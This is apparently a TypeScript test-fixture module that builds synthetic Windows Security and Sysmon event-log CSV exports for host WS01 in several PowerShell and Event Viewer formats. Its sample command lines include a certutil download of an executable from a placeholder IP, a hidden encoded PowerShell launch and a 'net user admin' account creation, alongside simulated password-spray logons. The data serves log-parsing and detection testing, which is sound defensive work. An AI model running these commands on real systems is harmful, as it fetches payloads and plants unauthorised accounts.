/**
 * Windows event log exports as PowerShell writes them, made up for the tests
 * (host WS01.contoso.local, user alice): every value quoted, CRLF line ends.
 *
 * - `eventDataCsv`: docs/schemas.md's "From EVTX" command, the event's
 *   EventData names as columns plus TimeGenerated (UTC, `ToString('o')`),
 *   EventID and Computer.
 * - `plainExportCsv`: a plain `Get-WinEvent | Export-Csv -NoTypeInformation`,
 *   the EventLogRecord's columns, the fields only in the English `Message`,
 *   `ProcessId` the log writer's (4 for the Security log), local en-US times.
 */
const CRLF = "\r\n";
const q = (v: string | null) => (v === null ? "" : '"' + v.replace(/"/g, '""') + '"');
const csv = (head: readonly string[], rows: readonly (readonly (string | null)[])[]) =>
  [head.map(q).join(","), ...rows.map((r) => r.map(q).join(","))].join(CRLF) + CRLF;

export const HOST = "WS01.contoso.local";
const T0 = Date.UTC(2026, 4, 31, 19, 0, 0);
const hex = (n: number) => "0x" + n.toString(16);

/** One process creation: its own and its parent's id and image. */
export interface Proc {
  pid: number;
  image: string;
  ppid: number;
  pimage: string;
  cmd: string;
}

const IMAGES = ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\net.exe"];
const CMDS = ["cmd.exe /c whoami /all", "powershell.exe -nop -w hidden -enc SQBFAFgA", "certutil.exe -urlcache -split -f http://198.51.100.23/p.exe C:\\Users\\Public\\p.exe", "net.exe user admin P@ss /add"];

/** `n` processes, each started by the previous one (explorer 0x1a20 → 0x1000 → 0x1004 → …). */
export function chain(n: number): Proc[] {
  const out: Proc[] = [];
  let ppid = 0x1a20, pimage = "C:\\Windows\\explorer.exe";
  for (let i = 0; i < n; i++) {
    const p = { pid: 0x1000 + 4 * i, image: IMAGES[i % 4], ppid, pimage, cmd: CMDS[i % 4] };
    out.push(p);
    ppid = p.pid;
    pimage = p.image;
  }
  return out;
}

/** The i-th event's time, 37 s apart. */
export const timeOf = (i: number) => new Date(T0 + i * 37_000);
const isoO = (d: Date) => d.toISOString().replace(/\.(\d{3})Z$/, ".$10000Z"); // .NET's 'o': 7 fraction digits
const usLocal = (d: Date) => {
  const l = new Date(d.getTime() - 4 * 3600e3); // a machine in UTC-4
  const h = l.getUTCHours();
  const mm = (n: number) => String(n).padStart(2, "0");
  return `${l.getUTCMonth() + 1}/${l.getUTCDate()}/${l.getUTCFullYear()} ${h % 12 || 12}:${mm(l.getUTCMinutes())}:${mm(l.getUTCSeconds())} ${h >= 12 ? "PM" : "AM"}`;
};

// EventData of each event, as the documented templates name them.
const data4688 = (p: Proc): Record<string, string> => ({
  SubjectUserSid: "S-1-5-21-1004336348-1177238915-682003330-1104", SubjectUserName: "alice", SubjectDomainName: "CONTOSO", SubjectLogonId: "0x3a4f12",
  NewProcessId: hex(p.pid), NewProcessName: p.image, TokenElevationType: "%%1938", ProcessId: hex(p.ppid), CommandLine: p.cmd,
  TargetUserSid: "S-1-0-0", TargetUserName: "-", TargetDomainName: "-", TargetLogonId: "0x0", ParentProcessName: p.pimage, MandatoryLabel: "S-1-16-8192",
});
/** A logon of `user` of `type` from `ip`. */
export interface Logon {
  user: string;
  type: number;
  ip: string;
}
const data4624 = (l: Logon): Record<string, string> => ({
  SubjectUserSid: "S-1-5-18", SubjectUserName: "WS01$", SubjectDomainName: "CONTOSO", SubjectLogonId: "0x3e7",
  TargetUserSid: "S-1-5-21-1004336348-1177238915-682003330-1105", TargetUserName: l.user, TargetDomainName: "CONTOSO", TargetLogonId: "0x8d2c41",
  LogonType: String(l.type), LogonProcessName: "NtLmSsp ", AuthenticationPackageName: "NTLM", WorkstationName: "ATTACKER-PC", LogonGuid: "{00000000-0000-0000-0000-000000000000}",
  TransmittedServices: "-", LmPackageName: "NTLM V2", KeyLength: "128", ProcessId: "0x2a4", ProcessName: "C:\\Windows\\System32\\lsass.exe",
  IpAddress: l.ip, IpPort: "49852", ImpersonationLevel: "%%1833",
});
/** A failed logon of `user` of `type` from `ip` (a password spray: NTLM, a wrong password). */
export type Failure = Logon;
const data4625 = (l: Failure): Record<string, string> => ({
  SubjectUserSid: "S-1-0-0", SubjectUserName: "-", SubjectDomainName: "-", SubjectLogonId: "0x0",
  TargetUserSid: "S-1-0-0", TargetUserName: l.user, TargetDomainName: "CONTOSO", Status: "0xc000006d", FailureReason: "%%2313", SubStatus: "0xc000006a",
  LogonType: String(l.type), LogonProcessName: "NtLmSsp ", AuthenticationPackageName: "NTLM", WorkstationName: "ATTACKER-PC", TransmittedServices: "-",
  LmPackageName: "-", KeyLength: "0", ProcessId: "0x0", ProcessName: "-", IpAddress: l.ip, IpPort: "49860",
});
/** One Sysmon network connection: the process's id and image, the two ends, who opened it. */
export interface Conn {
  pid: number;
  image: string;
  initiated: boolean;
  protocol: "tcp" | "udp";
  src: string;
  sport: number;
  dst: string;
  dport: number;
  dportName: string;
}
const guid = (pid: number) => `{f162fe7e-9b41-6a1c-${pid.toString(16).padStart(4, "0")}-000000000900}`;
const dataSysmon1 = (p: Proc, d: Date): Record<string, string> => ({
  RuleName: "-", UtcTime: d.toISOString().replace("T", " ").replace("Z", ""), ProcessGuid: guid(p.pid), ProcessId: String(p.pid), Image: p.image,
  FileVersion: "10.0.19041.1", Description: "Windows Command Processor", Product: "Microsoft® Windows® Operating System", Company: "Microsoft Corporation", OriginalFileName: "Cmd.Exe",
  CommandLine: p.cmd, CurrentDirectory: "C:\\Users\\alice\\", User: "CONTOSO\\alice", LogonGuid: "{f162fe7e-0000-6a1c-124f-3a0000000000}", LogonId: "0x3a4f12", TerminalSessionId: "1",
  IntegrityLevel: "Medium", Hashes: "SHA256=9A7C58BD98D70631AA1473F7B57B426DB367D72429A5455B433A05EE251F3236",
  ParentProcessGuid: guid(p.ppid), ParentProcessId: String(p.ppid), ParentImage: p.pimage, ParentCommandLine: `"${p.pimage}"`, ParentUser: "CONTOSO\\alice",
});

const dataSysmon3 = (c: Conn, d: Date): Record<string, string> => ({
  RuleName: "-", UtcTime: d.toISOString().replace("T", " ").replace("Z", ""), ProcessGuid: guid(c.pid), ProcessId: String(c.pid), Image: c.image, User: "CONTOSO\\alice",
  Protocol: c.protocol, Initiated: String(c.initiated), SourceIsIpv6: "false", SourceIp: c.src, SourceHostname: "-", SourcePort: String(c.sport), SourcePortName: "-",
  DestinationIsIpv6: "false", DestinationIp: c.dst, DestinationHostname: "-", DestinationPort: String(c.dport), DestinationPortName: c.dportName,
});

export type Event = { id: 4688; proc: Proc } | { id: 4624; logon: Logon } | { id: 4625; logon: Failure } | { id: 1; proc: Proc } | { id: 3; conn: Conn };
const eventData = (e: Event, d: Date) => {
  switch (e.id) {
    case 4688: return data4688(e.proc);
    case 4624: return data4624(e.logon);
    case 4625: return data4625(e.logon);
    case 1: return dataSysmon1(e.proc, d);
    case 3: return dataSysmon3(e.conn, d);
  }
};
const isSysmon = (e: Event) => e.id === 1 || e.id === 3;

/** The docs' command's CSV of events of one ID (the i-th at {@link timeOf}(i)). */
export function eventDataCsv(events: readonly Event[]): string {
  const rows = events.map((e, i) => ({ TimeGenerated: isoO(timeOf(i)), EventID: String(e.id), Computer: HOST, ...eventData(e, timeOf(i)) }));
  const head = Object.keys(rows[0]);
  return csv(head, rows.map((r) => head.map((h) => r[h as keyof typeof r] ?? null)));
}

// The English Message text of each event (Windows' own rendering, trimmed of its closing explanations).
export const msg4688 = (p: Proc) =>
  [
    "A new process has been created.", "",
    "Creator Subject:", "\tSecurity ID:\t\tS-1-5-21-1004336348-1177238915-682003330-1104", "\tAccount Name:\t\talice", "\tAccount Domain:\t\tCONTOSO", "\tLogon ID:\t\t0x3A4F12", "",
    "Target Subject:", "\tSecurity ID:\t\tS-1-0-0", "\tAccount Name:\t\t-", "\tAccount Domain:\t\t-", "\tLogon ID:\t\t0x0", "",
    "Process Information:", `\tNew Process ID:\t\t${hex(p.pid)}`, `\tNew Process Name:\t${p.image}`, "\tToken Elevation Type:\tTokenElevationTypeLimited (3)",
    "\tMandatory Label:\t\tMandatory Label\\Medium Mandatory Level", `\tCreator Process ID:\t${hex(p.ppid)}`, `\tCreator Process Name:\t${p.pimage}`, `\tProcess Command Line:\t${p.cmd}`, "",
    "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.", "",
    "Mandatory Label is the integrity level of the new process.",
  ].join(CRLF);
const msg4624 = (l: Logon) =>
  [
    "An account was successfully logged on.", "",
    "Subject:", "\tSecurity ID:\t\tS-1-5-18", "\tAccount Name:\t\tWS01$", "\tAccount Domain:\t\tCONTOSO", "\tLogon ID:\t\t0x3E7", "",
    "Logon Information:", `\tLogon Type:\t\t${l.type}`, "\tRestricted Admin Mode:\t-", "\tVirtual Account:\t\tNo", "\tElevated Token:\t\tYes", "",
    "Impersonation Level:\t\tImpersonation", "",
    "New Logon:", "\tSecurity ID:\t\tS-1-5-21-1004336348-1177238915-682003330-1105", `\tAccount Name:\t\t${l.user}`, "\tAccount Domain:\t\tCONTOSO", "\tLogon ID:\t\t0x8D2C41",
    "\tLinked Logon ID:\t\t0x0", "\tNetwork Account Name:\t-", "\tNetwork Account Domain:\t-", "\tLogon GUID:\t\t{00000000-0000-0000-0000-000000000000}", "",
    "Process Information:", "\tProcess ID:\t\t0x2a4", "\tProcess Name:\t\tC:\\Windows\\System32\\lsass.exe", "",
    "Network Information:", "\tWorkstation Name:\tATTACKER-PC", `\tSource Network Address:\t${l.ip}`, "\tSource Port:\t\t49852", "",
    "Detailed Authentication Information:", "\tLogon Process:\t\tNtLmSsp ", "\tAuthentication Package:\tNTLM", "\tTransited Services:\t-", "\tPackage Name (NTLM only):\tNTLM V2", "\tKey Length:\t\t128", "",
    "This event is generated when a logon session is created. It is generated on the computer that was accessed.",
  ].join(CRLF);
/** Windows' rendering of 4625 (NTSTATUS codes in upper case, the failure reason in words). */
const msg4625 = (l: Failure) =>
  [
    "An account failed to log on.", "",
    "Subject:", "\tSecurity ID:\t\tS-1-0-0", "\tAccount Name:\t\t-", "\tAccount Domain:\t\t-", "\tLogon ID:\t\t0x0", "",
    `Logon Type:\t\t\t${l.type}`, "",
    "Account For Which Logon Failed:", "\tSecurity ID:\t\tS-1-0-0", `\tAccount Name:\t\t${l.user}`, "\tAccount Domain:\t\tCONTOSO", "",
    "Failure Information:", "\tFailure Reason:\t\tUnknown user name or bad password.", "\tStatus:\t\t\t0xC000006D", "\tSub Status:\t\t0xC000006A", "",
    "Process Information:", "\tCaller Process ID:\t0x0", "\tCaller Process Name:\t-", "",
    "Network Information:", "\tWorkstation Name:\tATTACKER-PC", `\tSource Network Address:\t${l.ip}`, "\tSource Port:\t\t49860", "",
    "Detailed Authentication Information:", "\tLogon Process:\t\tNtLmSsp ", "\tAuthentication Package:\tNTLM", "\tTransited Services:\t-", "\tPackage Name (NTLM only):\t-", "\tKey Length:\t\t0", "",
    "This event is generated when a logon request fails. It is generated on the computer where access was attempted.", "",
    "The Subject fields indicate the account on the local system which requested the logon. This is most commonly a service such as the Server service, or a local process such as Winlogon.exe or Services.exe.", "",
    "The Logon Type field indicates the kind of logon that was requested. The most common types are 2 (interactive) and 3 (network).",
  ].join(CRLF);
/** The 4688 Message as a German Windows renders it (`plainExportCsv`'s `message`): not read. */
export const msg4688De = (p: Proc) =>
  [
    "Ein neuer Prozess wurde erstellt.", "",
    "Erstellersubjekt:", "\tSicherheits-ID:\t\tS-1-5-21-1004336348-1177238915-682003330-1104", "\tKontoname:\t\talice", "\tKontodomäne:\t\tCONTOSO", "\tAnmelde-ID:\t\t0x3A4F12", "",
    "Zielantragsteller:", "\tSicherheits-ID:\t\tS-1-0-0", "\tKontoname:\t\t-", "\tKontodomäne:\t\t-", "\tAnmelde-ID:\t\t0x0", "",
    "Prozessinformationen:", `\tNeue Prozess-ID:\t\t${hex(p.pid)}`, `\tNeuer Prozessname:\t${p.image}`, "\tTyp der Tokenerhöhung:\t%%1938",
    "\tVerbindliche Bezeichnung:\t\tMandatory Label\\Medium Mandatory Level", `\tErstellerprozess-ID:\t${hex(p.ppid)}`, `\tErstellerprozessname:\t${p.pimage}`, `\tProzessbefehlszeile:\t${p.cmd}`,
  ].join(CRLF);
const msgSysmon1 = (p: Proc, d: Date) => ["Process Create:", ...Object.entries(dataSysmon1(p, d)).map(([k, v]) => `${k}: ${v}`)].join(CRLF);
const msgSysmon3 = (c: Conn, d: Date) => ["Network connection detected:", ...Object.entries(dataSysmon3(c, d)).map(([k, v]) => `${k}: ${v}`)].join(CRLF);
const messageOf = (e: Event, d: Date) => {
  switch (e.id) {
    case 4688: return msg4688(e.proc);
    case 4624: return msg4624(e.logon);
    case 4625: return msg4625(e.logon);
    case 1: return msgSysmon1(e.proc, d);
    case 3: return msgSysmon3(e.conn, d);
  }
};

const PLAIN_HEAD = ["Message", "Id", "Version", "Qualifiers", "Level", "Task", "Opcode", "Keywords", "RecordId", "ProviderName", "ProviderId", "LogName", "ProcessId", "ThreadId", "MachineName", "UserId", "TimeCreated", "ActivityId", "RelatedActivityId", "ContainerLog", "MatchedQueryIds", "Bookmark", "LevelDisplayName", "OpcodeDisplayName", "TaskDisplayName", "KeywordsDisplayNames", "Properties"];

/** A plain `Get-WinEvent | Export-Csv` of the events; `message` replaces the rendered text (another language). */
export function plainExportCsv(events: readonly Event[], message?: (e: Event, i: number) => string): string {
  const rows = events.map((e, i) => {
    const d = timeOf(i);
    const text = message ? message(e, i) : messageOf(e, d);
    const sysmon = isSysmon(e);
    const log = sysmon ? "Microsoft-Windows-Sysmon/Operational" : "Security";
    return [
      text, String(e.id), "2", null, "0", e.id === 4624 || e.id === 4625 ? "12544" : "13312", "0", "-9214364837600034816", String(90000 + i),
      sysmon ? "Microsoft-Windows-Sysmon" : "Microsoft-Windows-Security-Auditing", "54849625-5478-4994-a5ba-3e3b0328c30d", log,
      sysmon ? "2384" : e.id === 4688 ? "4" : "676", "7000", HOST, sysmon ? "S-1-5-18" : null, usLocal(d), null, null, log,
      "System.UInt32[]", "System.Diagnostics.Eventing.Reader.EventBookmark", "Information", "Info", "Process Creation",
      "System.Collections.ObjectModel.ReadOnlyCollection`1[System.String]", "System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]",
    ];
  });
  return csv(PLAIN_HEAD, rows);
}

/** Options of {@link eventViewerExport}. */
export interface EventViewerExportOptions {
  /** `,` (Save All Events As… CSV) or a tab (Text (Tab delimited)). Default `,`. */
  sep?: "," | "\t";
  /** The view's first column: `Keywords` in the Security log's view, `Level` elsewhere. Default `Level`. */
  first?: "Level" | "Keywords";
  /** With the Computer column added to the view (View → Add/Remove Columns). Default false. */
  computer?: boolean;
  /** The Date and Time as the exporting machine writes it. Default en-US local (UTC-4), as {@link plainExportCsv}. */
  time?: (d: Date) => string;
}

/**
 * Event Viewer's "Save All Events As…" CSV or tab-delimited text of the events: a header of the view's columns, each
 * row one more field (the Message, quoted, multi-line) without a header name; Source is the provider's display name.
 */
export function eventViewerExport(events: readonly Event[], options: EventViewerExportOptions = {}): string {
  const sep = options.sep ?? ",";
  const head = [options.first ?? "Level", "Date and Time", "Source", "Event ID", "Task Category", ...(options.computer ? ["Computer"] : [])];
  // Event Viewer quotes only the Message (and a value holding the separator or a quote).
  const field = (v: string) => (v.includes(sep) || v.includes('"') || v.includes("\n") ? '"' + v.replace(/"/g, '""') + '"' : v);
  const rows = events.map((e, i) => {
    const d = timeOf(i);
    const level = options.first === "Keywords" ? (e.id === 4625 ? "Audit Failure" : "Audit Success") : "Information";
    const source = isSysmon(e) ? "Sysmon" : "Microsoft Windows security auditing.";
    const task = isSysmon(e) ? (e.id === 1 ? "Process Create (rule: ProcessCreate)" : "Network connection detected (rule: NetworkConnect)") : e.id === 4688 ? "Process Creation" : "Logon";
    return [level, (options.time ?? usLocal)(d), source, String(e.id), task, ...(options.computer ? [HOST] : []), messageOf(e, d)].map(field).join(sep);
  });
  return [head.join(sep), ...rows].join(CRLF) + CRLF;
}
